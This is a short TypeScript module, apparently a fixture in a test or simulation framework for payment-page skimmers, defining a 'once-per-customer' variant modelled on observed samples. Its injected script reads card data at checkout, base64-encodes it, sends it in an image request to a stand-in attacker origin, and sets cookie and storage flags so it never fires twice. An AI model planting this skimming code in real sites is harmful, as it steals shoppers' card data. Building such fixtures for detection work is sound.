import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'once-per-customer',
  why: 'Remembers in a cookie and in storage whom it has robbed, and never strikes twice (23 of 88 samples).',
  covers: ['trigger: once', 'sending: image'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    if (/_gid2=/.test(document.cookie) || localStorage.getItem('_gid2')) return;
    new Image().src = '${site.origins.evil}/1.gif?d=' + encodeURIComponent(btoa(card()));
    document.cookie = '_gid2=1; path=/; max-age=31536000';
    localStorage.setItem('_gid2', '1');`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
